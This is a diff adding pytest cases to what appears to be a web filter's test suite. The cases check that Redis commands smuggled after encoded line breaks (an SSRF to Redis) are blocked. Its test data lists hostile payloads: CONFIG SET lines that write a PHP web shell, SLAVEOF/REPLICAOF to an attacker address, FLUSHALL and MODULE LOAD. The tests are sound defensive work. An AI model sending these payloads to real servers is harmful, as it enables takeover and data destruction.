@@ -542,3 +542,23 @@ def test_a_body_text_starting_with_a_mail_command_refused(edge, value):
 def test_lines_that_start_like_mail_commands_pass(edge, value):
     assert query(edge, value) == 404, value
     assert body(edge, value) == 404, value
+
+
+# Redis's commands that change the server after an encoded line break (an
+# SSRF to its plain-text protocol: CONFIG SET dir/dbfilename writes a web
+# shell, SLAVEOF makes it the attacker's replica); the words in text pass.
+REDIS = ["CONFIG SET dir /var/www/html", "config set dbfilename s.php", "SLAVEOF 203.0.113.5 6379",
+         "REPLICAOF 203.0.113.5 6379", "FLUSHALL", "MODULE LOAD /tmp/x.so"]
+
+
+@pytest.mark.parametrize("brk,cmd", list(itertools.product(["%0d%0a", "%0a"], REDIS)))
+def test_redis_commands_after_an_encoded_break_block(edge, brk, cmd):
+    v = "key" + brk + urllib.parse.quote(cmd) + brk
+    assert query(edge, v, raw=True) == 403
+    assert body(edge, v) == 403
+
+
+@pytest.mark.parametrize("value", ["Notes:\nconfig settings were updated",
+                                   "Step 1\ndebug the login flow", "flushall the caches? no"])
+def test_redis_words_in_text_pass(edge, value):
+    assert body(edge, value) == 404
